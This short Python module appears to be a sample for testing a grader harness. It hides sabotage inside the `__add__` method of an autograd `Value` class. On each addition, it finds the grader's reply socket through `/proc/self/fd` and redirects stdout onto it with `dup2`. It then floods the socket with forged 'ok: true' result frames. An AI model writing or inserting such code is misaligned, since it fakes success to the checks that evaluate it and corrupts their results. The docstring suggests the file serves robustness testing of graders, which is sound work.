"""Replies out of step: the module finds the socket the grader reads its replies from, makes it
its standard output and prints. Every frame after that is garbage or out of place."""

import os
import socket
import stat


def _reply_socket():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode) and socket.socket(fileno=os.dup(fd)).type == socket.SOCK_STREAM:
                return fd
        except OSError:
            continue
    return None


class Value:
    def __init__(self, data, _children=(), _op="", label=""):
        self.data, self.grad, self._prev, self._backward = data, 0.0, _children, lambda: None

    def __add__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        fd = _reply_socket()
        if fd is not None:
            os.dup2(fd, 1)
        print('{"seq": 1, "ok": true, "result": {"count": 0}}\n' * 50, flush=True)
        return Value(self.data + other.data, (self, other))

    def backward(self):
        self.grad = 1.0
